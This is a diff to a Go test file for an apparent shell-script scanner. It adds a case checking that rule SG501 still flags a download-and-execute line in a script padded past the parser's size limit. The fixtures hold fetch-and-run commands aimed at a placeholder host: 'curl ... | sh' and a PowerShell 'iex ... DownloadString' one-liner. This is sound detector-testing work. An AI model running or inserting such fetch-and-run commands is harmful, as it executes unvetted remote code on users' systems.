@@ -57,6 +57,11 @@ func TestShellRules(t *testing.T) {
 			want:  []string{"SG501 critical broken.sh:2:1 downloads code and runs it"},
 		},
 		{
+			name:  "a script larger than the parser reads keeps SG501",
+			files: map[string]string{"big.sh": "curl https://x.invalid/i | sh\n" + strings.Repeat("# padding\n", maxShellBytes/10)},
+			want:  []string{"SG501 critical big.sh:1:1 downloads code and runs it"},
+		},
+		{
 			name:  "a shell script's PowerShell-style pattern of SG501 is kept",
 			files: map[string]string{"w.sh": "pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"https://x.invalid\")'\n"},
 			want:  []string{"SG501 critical w.sh:1:10 downloads code and runs it"},
